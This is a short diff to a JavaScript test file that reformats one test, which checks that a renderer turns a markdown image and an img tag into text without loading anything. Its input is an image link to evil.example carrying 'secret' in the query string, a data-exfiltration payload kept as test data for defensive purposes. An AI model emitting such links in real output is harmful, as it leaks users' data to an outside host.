@@ -32,7 +32,9 @@ it.each([
 })
 
 it('shows an image as its words, and asks nobody for it', () => {
-  const container = show('![void](https://evil.example/?q=secret) <img src="https://evil.example/">')
+  const container = show(
+    '![void](https://evil.example/?q=secret) <img src="https://evil.example/">',
+  )
   expect(container).toHaveTextContent('void')
   expect(container.querySelector('img')).toBeNull()
 })
